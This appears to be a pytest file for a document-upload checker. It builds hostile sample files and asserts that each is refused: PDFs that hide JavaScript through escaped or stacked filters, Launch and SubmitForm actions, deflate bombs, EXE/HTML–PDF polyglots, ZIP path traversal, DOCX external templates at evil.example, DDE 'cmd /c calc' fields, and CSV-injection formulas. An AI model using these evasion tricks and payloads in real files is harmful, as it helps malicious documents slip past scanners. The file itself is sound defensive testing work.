"""Hostile documents found by the review of issue 24, each refused with a message that
says why, while good files of every kind still pass (tests/test_documents.py).

Refused: PDFs hiding JavaScript in an object stream whose filter is written with an
escape (``/FlateDecod#65``), compressed twice, hex- or ASCII85-encoded before Flate,
behind a ``%/Subtype /Image`` comment, after a dictionary over 1 KiB, or with
``endstream`` inside its data; an XFA form with a script; a deflate bomb in a PDF; forms
that submit data, GoToR/GoToE and RichMedia; a PDF pypdf cannot parse; a Windows program
with ``%PDF-`` at byte 64; an HTML page followed by a PDF; an old Office file mentioning
“FileHeader” named ``.hwp``; a HWP with JScript, a VBA project or an EPS picture; a HWPX
with scripts; ZIPs with
an encrypted entry (no more crash), a huge central directory or a ``../`` name; DOCX with
an external template, a DDE field (``w:fldSimple`` and ``w:instrText`` split in runs), an
ActiveX control or an OLE object known only by its content type; an XLSX with a DDE link;
CSVs with formulas (CSV injection).
"""

import base64
import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from press import document_checks
from tests.document_samples import CONTENT_TYPES, OOXML, hwp, office, pdf

JS_OBJECT = b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj "
JS_PLAIN = b"10 0 << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"


def refused(name: str, data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refusal:
        document_checks.check(io.BytesIO(data), name)
    return refusal.value


def says(name: str, data: bytes) -> str:
    return " ".join(refused(name, data).messages)


def object_stream(inner: bytes, extra: bytes = b"", filters: bytes = b"/FlateDecode", packed=None):
    packed = zlib.compress(inner) if packed is None else packed
    return (
        b"9 0 obj << /Type /ObjStm /N 1 /First 4 "
        + extra
        + b" /Filter "
        + filters
        + b" /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream endobj"
    )


def flate_with_endstream(data: bytes) -> bytes:
    """A zlib stream whose first block is stored and holds the bytes ``endstream``: a scan
    that cuts the stream there unpacks nothing of it."""
    stored = b"endstream\n"
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = raw.compress(data) + raw.flush()
    block = b"\x00" + struct.pack("<HH", len(stored), 0xFFFF ^ len(stored)) + stored
    return b"\x78\x01" + block + body + struct.pack(">L", zlib.adler32(stored + data))


# --- PDF: scripts hidden from a byte scan ------------------------------------------------

HIDDEN_SCRIPTS = {
    "escaped filter name": lambda: pdf(object_stream(JS_OBJECT, filters=b"/FlateDecod#65")),
    "compressed twice": lambda: pdf(
        object_stream(
            JS_OBJECT,
            filters=b"[/FlateDecode /FlateDecode]",
            packed=zlib.compress(zlib.compress(JS_OBJECT)),
        )
    ),
    "hex": lambda: pdf(
        object_stream(JS_OBJECT, filters=b"/ASCIIHexDecode", packed=JS_OBJECT.hex().encode() + b">")
    ),
    "ascii85 then flate": lambda: pdf(
        object_stream(
            JS_OBJECT,
            filters=b"[/ASCII85Decode /FlateDecode]",
            packed=base64.a85encode(zlib.compress(JS_OBJECT)) + b"~>",
        )
    ),
    "image in a comment": lambda: pdf(object_stream(JS_OBJECT, extra=b"%/Subtype /Image\n")),
    "long dictionary": lambda: pdf(object_stream(JS_OBJECT, filters=b"/FlateDecode" + b" " * 1100)),
    "endstream inside the data": lambda: pdf(
        object_stream(JS_OBJECT, packed=flate_with_endstream(JS_OBJECT))
    ),
    "the packed objects' own escapes": lambda: pdf(
        object_stream(b"10 0 << /OpenAction << /S /J#61vaScript /J#53 (x) >> >>")
    ),
}


@pytest.mark.parametrize("make", HIDDEN_SCRIPTS.values(), ids=list(HIDDEN_SCRIPTS))
def test_javascript_hidden_in_streams_is_found(make):
    assert refused("x.pdf", make()).code == "pdf_script"


def test_an_xfa_form_with_a_script_is_refused_even_unnamed():
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)'
    xfa += b"</script></template></xdp:xdp>"
    named = pdf(b"5 0 obj << /AcroForm << /XFA 6 0 R >> >> endobj", object_stream(xfa))
    assert "XFA form" in says("x.pdf", named)
    assert refused("x.pdf", pdf(object_stream(xfa))).code == "pdf_form"


@pytest.mark.parametrize(
    ("action", "code"),
    [
        (b"/S /SubmitForm /F (http://evil.example)", "pdf_form"),
        (b"/S /ImportData /F (data.fdf)", "pdf_form"),
        (b"/S /GoToR /F (other.pdf)", "pdf_open"),
        (b"/S /GoToE /T << /R /C >>", "pdf_open"),
        (b"/Subtype /RichMedia", "pdf_media"),
        (b"/S /Launch /F (cmd.exe)", "pdf_launch"),
    ],
)
def test_actions_that_send_open_or_play_are_refused(action, code):
    assert refused("x.pdf", pdf(b"5 0 obj << " + action + b" >> endobj")).code == code


def test_a_deflate_bomb_in_a_pdf_is_refused_without_unpacking_it():
    packer = zlib.compressobj(9)
    zeros = b"\x00" * (1 << 20)
    bomb = b"".join(packer.compress(zeros) for _ in range(200)) + packer.flush()
    data = pdf(b"6 0 obj << /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb)
    tracemalloc.start()
    try:
        error = refused("bomb.pdf", data + b"\nendstream endobj")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert error.code == "pdf_too_packed"
    assert peak < 120 * 1024 * 1024


def test_a_stream_that_cannot_be_decoded_is_refused_not_skipped():
    unknown = b"6 0 obj << /Filter /Made#55p /Length 3 >>\nstream\nabc\nendstream endobj"
    assert refused("x.pdf", pdf(unknown)).code == "pdf_unreadable_part"
    broken = b"6 0 obj << /Filter /ASCIIHexDecode /Length 3 >>\nstream\nzz>\nendstream endobj"
    assert refused("x.pdf", pdf(broken)).code == "pdf_unreadable_part"


def test_a_pdf_that_cannot_be_parsed_is_refused_with_a_clear_message():
    assert "damaged" in says("x.pdf", b"%PDF-1.7\n" + b"\xff" * 200)


def test_a_picture_is_not_unpacked_and_its_pdf_passes():
    picture = b"\xff\xd8\xff" + b"\x00" * 64
    data = pdf(
        b"6 0 obj << /Type /XObject /Subtype /Image /Filter /DCTDecode /Length %d >>\nstream\n"
        % len(picture)
        + picture
        + b"\nendstream endobj"
    )
    assert document_checks.check(io.BytesIO(data), "x.pdf").pages == 1


# --- polyglots -----------------------------------------------------------------------------


def test_a_program_with_a_pdf_header_inside_is_refused():
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"%PDF-1.7\n" + b"\x00" * 400 + b"PE\x00\x00"
    assert refused("x.pdf", exe).code == "program"


def test_a_web_page_before_a_pdf_is_refused():
    data = b"<html><script>alert(1)</script>%PDF-1.4\n" + pdf()[9:]
    assert "before its PDF header" in says("x.pdf", data)


def test_whitespace_before_the_pdf_header_is_allowed():
    assert document_checks.check(io.BytesIO(b"\r\n " + pdf()), "x.pdf").kind == "pdf"


# --- HWP -------------------------------------------------------------------------------------


def test_an_old_office_file_that_mentions_file_header_is_not_a_hwp():
    data = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + "WordDocument".encode("utf-16-le").ljust(128, b"\x00")
        + "see FileHeader".encode("utf-16-le")
    )
    assert refused("x.hwp", data).code == "old_office"


def test_a_compound_file_whose_file_header_is_not_hangul_is_refused():
    from tests.document_samples import ole2

    data = ole2({"FileHeader": b"Not a Hangul file", "WordDocument": b"x"})
    assert "not a HWP document" in says("x.hwp", data)


@pytest.mark.parametrize(
    "extra",
    [
        {"Scripts/DefaultJScript": b"app.alert(1)"},
        {"Scripts/JScriptVersion": b"\x00"},
        {"_VBA_PROJECT/VBA/dir": b"\x00"},
        {"BinData/BIN0001.eps": b"\x00"},
        {"BinData/BIN0002.bmp": b"%!PS-Adobe-3.0 EPSF-3.0\n"},
        {"BinData/BIN0003.dat": zlib.compress(b"%!PS-Adobe-3.0\n", wbits=-15)},
    ],
    ids=["jscript", "jscript-version", "vba", "eps-by-name", "eps-by-content", "eps-deflated"],
)
def test_a_hwp_with_scripts_macros_or_postscript_is_refused(extra):
    assert "scripts, macros or PostScript" in says("x.hwp", hwp(extra))


def test_a_hwp_with_a_picture_passes():
    data = hwp({"BinData/BIN0001.png": b"\x89PNG\r\n\x1a\n"})
    assert document_checks.check(io.BytesIO(data), "x.hwp").kind == "hwp"


# --- ZIP-based -----------------------------------------------------------------------------


def test_a_hwpx_with_scripts_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/hwp+zip", compress_type=zipfile.ZIP_STORED)
        archive.writestr("Contents/section0.xml", "<hs:sec/>")
        archive.writestr("Scripts/headerScripts", "app.alert(1)")
    assert refused("x.hwpx", out.getvalue()).code == "hwp_active"


def encrypted_zip(first: str, name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(
            first,
            "application/hwp+zip"
            if first == "mimetype"
            else CONTENT_TYPES.format(part=OOXML["docx"][0], type=OOXML["docx"][1]),
        )
        archive.writestr("word/document.xml", "<d/>")
    data = bytearray(out.getvalue())
    data[6] |= 1
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


@pytest.mark.parametrize(
    ("first", "name"), [("mimetype", "x.hwpx"), ("[Content_Types].xml", "x.docx")]
)
def test_an_encrypted_entry_is_refused_not_a_crash(first, name):
    assert "password" in says(name, encrypted_zip(first, name))


def test_a_huge_zip_directory_is_refused_from_its_end_record():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "x")
        for n in range(6000):
            archive.writestr(zipfile.ZipInfo(f"{n}"), b"")
    data = out.getvalue()
    calls = []
    original = zipfile.ZipFile.__init__

    def counted(self, *args, **kwargs):
        calls.append(1)
        return original(self, *args, **kwargs)

    zipfile.ZipFile.__init__ = counted
    try:
        assert refused("x.docx", data).code == "zip_bomb"
    finally:
        zipfile.ZipFile.__init__ = original
    assert calls == []  # zipfile never parsed the directory


def test_a_name_leaving_the_archive_is_refused():
    assert refused("x.docx", office("docx", {"../../tmp/evil.sh": "x"})).code == "damaged"


EXTERNAL_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
HYPERLINK = EXTERNAL_TEMPLATE.replace("attachedTemplate", "hyperlink")


def test_an_external_template_is_refused_but_a_hyperlink_passes():
    data = office("docx", {"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE})
    assert "from outside it" in says("x.docx", data)
    picture = EXTERNAL_TEMPLATE.replace("attachedTemplate", "image").replace(
        '"External"', "'External'"
    )
    assert refused("x.pptx", office("pptx", {"ppt/slides/_rels/s.xml.rels": picture})).code == (
        "office_external"
    )
    data = office("docx", {"word/_rels/document.xml.rels": HYPERLINK})
    assert document_checks.check(io.BytesIO(data), "x.docx").kind == "docx"


@pytest.mark.parametrize(
    "body",
    [
        '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>',
        '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd "/c calc"'
        "</w:instrText></w:r>",
        '<w:fldSimple w:instr=" dde cmd"/>',
    ],
)
def test_dde_fields_are_refused(body):
    data = office("docx", {"word/header1.xml": f"<w:hdr>{body}</w:hdr>"})
    assert "DDE" in says("x.docx", data)


def test_a_dde_link_in_a_workbook_is_refused():
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    data = office("xlsx", {"xl/externalLinks/externalLink1.xml": link})
    assert refused("x.xlsx", data).code == "office_dde"


def office_with_type(kind: str, content_type: str, part: str) -> bytes:
    main, main_type = OOXML[kind]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{main}" ContentType="{main_type}"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(main, "<document/>")
        archive.writestr(part, b"\x00")
    return out.getvalue()


@pytest.mark.parametrize(
    ("content_type", "code"),
    [
        ("application/vnd.ms-office.vbaProject", "macros"),
        ("application/vnd.ms-office.activeX+xml", "office_objects"),
        ("application/vnd.openxmlformats-officedocument.oleObject", "office_objects"),
    ],
)
def test_macros_and_objects_are_known_by_their_content_type(content_type, code):
    data = office_with_type("docx", content_type, "word/media/innocent.png")
    assert refused("x.docx", data).code == code


# --- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0,=HYPERLINK(\"http://evil\")\n",
        "name,total\nx,+SUM(A1:A2)\n",
        "name,total\nx,\" -2+3+cmd|'/C calc'!A0\"\n",
        "name,total\nx,@SUM(1)\n",
        "name;total\nx;=1+1\n",
        "name,total\nx,\t=1+1\n",
    ],
)
def test_a_csv_with_formulas_is_refused(text):
    assert "CSV injection" in says("x.csv", text.encode())


def test_a_csv_with_negative_numbers_passes():
    text = "구분,값,변화\nvisitors,120,-3\nbudget,-3.5,+2\nmissing,-,-1.5e3\n"
    assert document_checks.check(io.BytesIO(text.encode()), "x.csv").kind == "csv"
    assert document_checks.check(io.BytesIO(b"=not a csv\n"), "x.txt").kind == "txt"


def test_new_refusals_are_in_the_editors_language():
    data = b"a,b\n=1+1,2\n"
    english = says("x.csv", data)
    for code in ("ko", "zh-hans", "ja"):
        with translation.override(code):
            assert says("x.csv", data) != english
